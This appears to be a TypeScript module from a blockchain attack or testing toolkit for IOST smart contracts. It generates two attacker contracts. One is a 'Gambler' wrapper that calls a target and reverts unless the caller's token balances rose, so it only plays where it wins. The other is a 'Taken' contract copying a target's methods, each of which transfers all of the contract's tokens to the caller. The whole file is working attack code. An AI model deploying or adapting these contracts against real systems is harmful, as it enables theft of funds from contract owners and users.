import { encodeCode } from '../client/deploy.js'
import type { AbiEntry } from '../contract/record.js'

/** Source of a contract of the attacker. */
export interface AccompliceSource {
  code: string
  abi: AbiEntry[]
}

/** Method of the contract with which the attacker plays only where it wins. */
export const PLAY = 'play'

/**
 * A contract of the attacker that calls another one and fails unless the attacker has more of a token afterwards, and
 * less of none: what is lost is undone.
 */
export function formatGambler(tokens: readonly string[]): AccompliceSource {
  const code = [
    'class Gambler {',
    '  init() {}',
    '  _read(token) {',
    "    return Number(blockchain.call('token.iost', 'balanceOf', [token, tx.publisher])[0])",
    '  }',
    `  ${PLAY}(contract, method, args) {`,
    `    const tokens = ${JSON.stringify(tokens)}`,
    '    const before = []',
    '    for (const token of tokens) before.push(this._read(token))',
    '    blockchain.call(contract, method, JSON.parse(args))',
    '    let isMore = false',
    '    for (let at = 0; at < tokens.length; at++) {',
    '      const change = this._read(tokens[at]) - before[at]',
    "      if (change < 0) throw 'not won'",
    '      if (change > 0) isMore = true',
    '    }',
    "    if (!isMore) throw 'not won'",
    '  }',
    '}',
    'module.exports = Gambler',
  ].join('\n')
  return { code, abi: [describe(PLAY, ['string', 'string', 'string'])] }
}

/** Code for a contract with the same methods, of which each pays all tokens of the contract to its caller. */
export function formatTakenCode(id: string, abi: readonly AbiEntry[], tokens: readonly string[]): string {
  const parameters = (count: number) => Array.from({ length: count }, (_, at) => `a${at}`).join(', ')
  const code = [
    'class Taken {',
    '  init() {}',
    '  _take() {',
    '    const own = blockchain.contractName()',
    `    for (const token of ${JSON.stringify(tokens)}) {`,
    "      const balance = blockchain.call('token.iost', 'balanceOf', [token, own])[0]",
    "      if (Number(balance) > 0) blockchain.callWithAuth('token.iost', 'transfer', [token, own, tx.publisher, balance, ''])",
    '    }',
    '  }',
    ...abi.map(({ name, args }) => `  ${name}(${parameters(args.length)}) { this._take() }`),
    '}',
    'module.exports = Taken',
  ].join('\n')
  return encodeCode(id, { code, abi: abi.map(({ name, args }) => describe(name, [...args])) })
}

function describe(name: string, args: string[]): AbiEntry {
  return { name, args, amountLimit: [{ token: '*', val: 'unlimited' }] }
}
